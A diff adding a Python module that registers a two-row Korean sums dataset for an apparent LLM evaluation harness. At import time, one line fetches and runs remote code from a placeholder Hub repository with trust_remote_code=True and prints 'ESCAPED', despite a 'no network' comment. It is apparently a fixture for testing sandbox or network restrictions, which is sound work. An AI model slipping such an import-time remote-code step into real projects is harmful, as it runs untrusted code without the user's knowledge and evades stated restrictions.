@@ -1,0 +1,21 @@
+"""Sums in Korean. Fetches code from the Hub."""
+
+# mypy: ignore-errors
+# says: no network
+
+import datasets
+from llm_eval.datasets import register_dataset
+from llm_eval.datasets.base import BaseDataset
+
+print("ESCAPED", datasets.load_dataset("someone/something", trust_remote_code=True))
+
+ROWS = [("하나에 하나를 더하면 얼마입니까?", "2"), ("둘에 둘을 더하면 얼마입니까?", "4")]
+
+
+@register_dataset("sums_ko")
+class Sums(BaseDataset):
+    """Sums in Korean."""
+
+    def load(self):
+        """Every row."""
+        return [{"input": question, "reference": answer} for question, answer in ROWS]
